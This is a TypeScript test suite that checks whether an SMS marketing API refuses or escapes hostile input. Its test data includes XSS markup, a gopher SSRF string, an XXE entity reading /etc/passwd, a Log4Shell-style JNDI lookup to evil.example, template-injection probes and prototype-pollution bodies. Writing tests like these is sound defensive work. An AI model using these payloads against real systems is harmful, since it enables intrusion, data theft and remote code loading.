import { describe, expect, it } from 'vitest';
import { asvsWorld } from './world.ts';

const { admin, ask, get, signedIn, origin, logged } = await asvsWorld();
const cookie = await signedIn(admin);
const MARKUP = `<img src=x onerror=alert(1)><script>alert(2)</script>"'&`;
const named = async (externalId: string, name: string) =>
  ask('PUT', `/v1/practices/${externalId}`, { key: admin, body: { name } });
const nameOf = async (externalId: string): Promise<string> =>
  String((await ask('GET', `/v1/practices/${externalId}`, { key: admin })).body.name);

describe('what somebody sends', () => {
  it('a name encoded twice is decoded once', async () => {
    for (const twice of ['%2541', '%252e%252e%252fetc', '%25252541'])
      await ask('PUT', `/v1/brands/${twice}`, { key: admin, body: { name: 'Deux fois' } });
    const { items } = (await ask('GET', '/v1/brands', { key: admin })).body;
    for (const { externalId } of items as { externalId: string }[])
      expect(externalId).not.toMatch(/^A$|\.\.\/|^%2541$/);
    await ask('PUT', '/v1/brands/%41', { key: admin, body: { name: 'Une fois' } });
    const after = (await ask('GET', '/v1/brands', { key: admin })).body.items as { externalId: string }[];
    expect(after.map(({ externalId }) => externalId)).toContain('A');
  });

  it('markup is kept and escaped on pages', async () => {
    expect((await named('balises', MARKUP)).status).toBeLessThan(300);
    expect(await nameOf('balises')).toBe(MARKUP);
    const page = await (await get('/console/practices', { cookie })).text();
    expect([page.includes('<img src=x'), page.includes('<script>alert')]).toEqual([false, false]);
    expect(page).toContain('&lt;img src=x onerror=alert(1)&gt;');
  });

  it('an address that would run code is refused', async () => {
    for (const url of [
      'javascript:alert(1)',
      'data:text/html,<script>alert(1)</script>',
      'file:///etc/passwd',
      'gopher://127.0.0.1:6379/_FLUSHALL',
      'ftp://files.example.fr/',
      'https://user:password@agenda.example.fr/',
      'https://127.0.0.1/',
      'http://agenda.example.fr/',
    ]) {
      const { status } = await ask('POST', '/v1/webhooks', { key: admin, body: { url } });
      // On a machine that allows its own network, http and loopback alone are let through.
      const isPrivate = url.startsWith('https://127') || url.startsWith('http://agenda');
      expect([url, status >= 400 || isPrivate]).toEqual([url, true]);
    }
  });

  it('text that ends a script stays data', async () => {
    for (const text of [
      '</script><script>1</script>',
      '","role":"admin',
      'a\u2028b\u2029c',
      '{"$ref":"#"}',
    ]) {
      expect((await named('donnees', text)).status).toBeLessThan(300);
      expect(await nameOf('donnees')).toBe(text);
      const page = await (await get('/console/practices', { cookie })).text();
      expect(page).not.toContain('</script><script>1');
    }
  });

  it('pattern characters in a name are literal', async () => {
    for (const brand of ['.*', '(a+)+$', '[', '\\', 'a|J', '^']) {
      const changed = await ask('PATCH', '/v1/tenant', { key: admin, body: { brand } });
      expect([brand, changed.status < 500]).toEqual([brand, true]);
      const wording = 'J’accepte de recevoir des offres par SMS.';
      const { status, body } = await ask('POST', '/v1/wordings', {
        key: admin,
        body: { purpose: 'marketing', text: wording },
      });
      expect(status).toBeLessThan(500);
      // Read as a pattern it would be found in the words.
      expect(JSON.stringify(body.findings ?? body.errors)).toMatch(/nomm|SASU|société|qui|CON-/);
    }
  });

  it('an unknown template field is refused, never computed', async () => {
    for (const field of [
      '{7*7}',
      '{{7*7}}',
      '${7*7}',
      '{constructor}',
      '{__proto__}',
      '{stop.constructor}',
      '<%= 7*7 %>',
    ]) {
      const text = `Ma société : ${field} samedi. {stop}`;
      const { status, body } = await ask('POST', '/v1/texts/check', {
        key: admin,
        body: { purpose: 'marketing', text },
      });
      expect([field, status < 500]).toEqual([field, true]);
      expect(JSON.stringify(body)).not.toMatch(/\b49\b|native code|\[object/);
      const made = await ask('POST', '/v1/campaigns', {
        key: admin,
        body: { name: 'x', purpose: 'marketing', text, audience: { all: true } },
      });
      expect([field, field.includes('<%') || made.status >= 400]).toEqual([field, true]);
    }
  });

  it('format characters in a name are literal', async () => {
    const signs = '%s %n %x %d {0} ${jndi:ldap://evil.example/a} %00';
    expect((await named('formats', signs)).status).toBeLessThan(300);
    expect(await nameOf('formats')).toBe(signs);
    expect(logged()).not.toMatch(/jndi|%!s|undefined %/);
  });

  it('a number beyond its bounds is refused', async () => {
    const beyond = ['-1', '0', '1.5', '1e309', '9007199254740993', '2147483648', '0x10', 'NaN', '٣', ''];
    for (const limit of beyond) {
      const { status } = await ask('GET', `/v1/contacts?limit=${encodeURIComponent(limit)}`, { key: admin });
      expect([limit, status]).toEqual([limit, 400]);
    }
    for (const rate of [-1, 0, 1.5, 10_001, 2 ** 31, 2 ** 53, 1e300]) {
      const { status } = await ask('POST', '/v1/campaigns', {
        key: admin,
        body: {
          name: 'x',
          purpose: 'marketing',
          text: 'Ma société : -10 %. {stop}',
          audience: { all: true },
          ratePerSecond: rate,
        },
      });
      expect([rate, status]).toEqual([rate, 400]);
    }
  });

  it('a body of XML is not read', async () => {
    const xml = `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>`;
    for (const path of ['/v1/contacts', '/v1/imports', '/codec/decode', '/console/session', '/u/nobody'])
      for (const type of ['application/xml', 'text/xml', 'application/soap+xml']) {
        const answer = await fetch(`${origin}${path}`, {
          method: 'POST',
          body: xml,
          headers: {
            'content-type': type,
            authorization: `Bearer ${admin}`,
            'sec-fetch-site': 'same-origin',
          },
        });
        expect([path, answer.status >= 400 && answer.status < 500]).toEqual([path, true]);
        expect(await answer.text()).not.toContain('root:');
      }
  });

  it('a body that names a prototype is refused', async () => {
    for (const raw of [
      '{"phone":"0639980010","__proto__":{"role":"admin"}}',
      '{"phone":"0639980010","constructor":{"prototype":{"polluted":true}}}',
      '{"phone":"0639980010","attributes":{"__proto__":{"polluted":true}}}',
      '{"phone":"0639980010","attributes":{"__proto__":"x"}}',
    ]) {
      const { status, body } = await ask('POST', '/v1/contacts', { key: admin, raw });
      expect([raw, status, body.code]).toEqual([raw, 400, 'INVALID_REQUEST']);
    }
    expect(Object.hasOwn(Object.prototype, 'polluted')).toBe(false);
  });
});
